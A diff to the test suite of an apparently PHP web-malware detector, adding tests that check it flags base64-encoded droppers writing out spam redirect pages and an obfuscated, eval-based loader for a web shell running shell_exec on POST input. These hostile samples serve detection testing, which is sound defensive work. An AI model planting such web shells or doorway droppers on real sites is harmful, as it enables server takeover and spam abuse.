@@ -11,7 +11,7 @@ from functools import cache
 import pytest
 
 from webhunt.detect.context import ContextLayer
-from webhunt.detect.decode import ID_BINARY, ID_EVALUATED, ID_HIDDEN, DecodeLayer
+from webhunt.detect.decode import ID_BINARY, ID_EVALUATED, ID_HIDDEN, ID_REDIRECT_DROP, DecodeLayer
 from webhunt.detect.document import Document
 from webhunt.detect.engine import Engine, EngineInfo, context_for, default_layers
 from webhunt.detect.semantic import SemanticLayer
@@ -217,6 +217,43 @@ def test_dropper_of_an_encoded_shell() -> None:
     data = f"<?php file_put_contents('x.php', base64_decode('{blob}'));".encode()
     (r,) = [r for r in decode_only(data, "x.php") if r.id == ID_HIDDEN]
     assert r.score >= 70
+
+
+def test_dropper_of_an_encoded_redirect_page() -> None:
+    """A page decoded from a blob the file carries and written out, sending visitors to another
+    site, is a doorway a spam dropper plants; the same page written as plain text, or a decoded page
+    that sends nobody away, is not judged so."""
+    page = (
+        b'<html><head><meta http-equiv="refresh" content="0;URL=http://spam.example.invalid/"></head></html>'
+    )
+    blob = base64.b64encode(page).decode()
+    data = f"<?php $a = '{blob}'; file_put_contents('x' . rand() . '.html', base64_decode($a));".encode()
+    (r,) = [r for r in decode_only(data, "tmp/d.php") if r.id == ID_REDIRECT_DROP]
+    assert 40 <= r.score < 70 and "another site" in r.description
+    js = base64.b64encode(deflate(b'<script>location.href="https://x.example.invalid/"</script>')).decode()
+    data = (
+        f"<?php $d = gzinflate(base64_decode('{js}')); $h = fopen('promo.htm', 'w'); fwrite($h, $d);"
+    ).encode()
+    assert [r.id for r in decode_only(data, "tmp/d.php")] == [ID_REDIRECT_DROP]
+    plain = b"<?php file_put_contents('index.html', '" + page.replace(b"'", b"\\'") + b"');"
+    assert decode_only(plain, "tmp/d.php") == []
+    quiet = base64.b64encode(b"<html><body><h1>Back soon</h1></body></html>").decode()
+    data = f"<?php file_put_contents('m.html', base64_decode('{quiet}'));".encode()
+    assert decode_only(data, "tmp/d.php") == []
+
+
+def test_loader_putting_the_script_path_back_for_a_placeholder_is_followed() -> None:
+    """``str_replace('__FILE__', "'" . $_F . "'", $code)`` on constant code: the placeholder stands
+    for a value the analysis cannot spell, the code keeps its text and the payload is judged."""
+    code = b"?><?php echo shell_exec($_POST['c']); ?>"
+    src, dst = "abcdefghijklmnopqrstuvwxyz", "qwertyuiopasdfghjklzxcvbnm"
+    blob = base64.b64encode(code.decode().translate(str.maketrans(src, dst)).encode()).decode()
+    data = (
+        f"<?php $_F=__FILE__;$_X='{blob}';$_X=base64_decode($_X);$_X=strtr($_X,'{dst}','{src}');"
+        "$_R=str_replace('__FILE__',\"'\".$_F.\"'\",$_X);eval($_R);"
+    ).encode()
+    verdict = detect(data, "x.php")
+    assert verdict.score >= 70 and ID_EVALUATED in {r.id for r in verdict.reasons}
 
 
 def test_dropper_of_a_plain_literal_shell() -> None:
